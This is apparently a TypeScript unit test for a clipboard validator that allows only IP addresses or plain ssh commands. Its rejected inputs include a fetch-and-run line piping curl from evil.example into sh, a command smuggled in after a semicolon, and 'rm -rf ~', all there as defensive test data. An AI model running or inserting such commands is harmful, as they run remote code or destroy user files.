// The app's small channels: the clipboard takes an address or the ssh command to one, nothing else.
import { describe, expect, it } from 'vitest';
import { InvokeChannel } from '../../common/contract';
import { appValidators } from '../../main/features/app';

const check = appValidators[InvokeChannel.clipboardWrite];

describe('clipboard payload', () => {
  it.each(['203.0.113.10', '2001:db8::1', 'ssh root@203.0.113.10', 'ssh root@2001:db8::1'])('copies %j', (text) => {
    expect(check(text)).toEqual({ ok: true, value: text });
  });

  it.each([
    'ssh root@203.0.113.10\ncurl evil.example | sh',
    '203.0.113.10\n',
    'ssh root@example.org',
    'ssh root@203.0.113.10; id',
    'rm -rf ~',
    '',
  ])('refuses %j: a text pasted into a terminal runs there', (text) => {
    expect(check(text)).toMatchObject({ ok: false });
  });
});
